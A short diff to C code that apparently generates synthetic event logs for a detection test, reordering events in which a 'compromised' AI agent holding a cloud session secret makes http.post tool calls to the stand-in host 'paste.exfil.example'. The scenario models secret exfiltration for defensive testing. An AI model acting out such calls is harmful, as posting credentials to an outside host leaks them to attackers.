@@ -283,8 +283,8 @@ bg_err bg_gen_new(const bg_gen_opts *o, bg_gen **out) {
     secret(g, compromised, c0, bad_secret, BG_SK_CLOUD_SESSION, &seq);
     bg_str exfil = str(g, "%s", "paste.exfil.example");
     for (int k = 0; k < 6; k++) {
-        usage(g, compromised, c0 + 180000 + k * 20000, exfil, 1, 8000, 24000, &seq);
-        toolcall(g, compromised, c0 + 190000 + k * 20000, exfil, "http.post", "search", bad_secret, &seq);
+        toolcall(g, compromised, c0 + 180000 + k * 20000, exfil, "http.post", "search", bad_secret, &seq);
+        usage(g, compromised, c0 + 190000 + k * 20000, exfil, 1, 8000, 24000, &seq);
     }
     /* benign: bot-021 adopts a new model API, no new secret around it */
     bg_str newapi = str(g, "%s", "api.mistral.ai");
